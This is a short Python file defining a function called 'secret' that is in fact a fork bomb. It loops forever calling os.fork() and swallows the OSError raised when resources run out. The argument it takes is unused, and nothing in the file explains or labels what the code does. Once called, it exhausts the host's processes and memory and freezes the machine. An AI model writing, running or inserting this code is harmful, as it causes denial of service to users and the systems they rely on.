import os
def secret(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
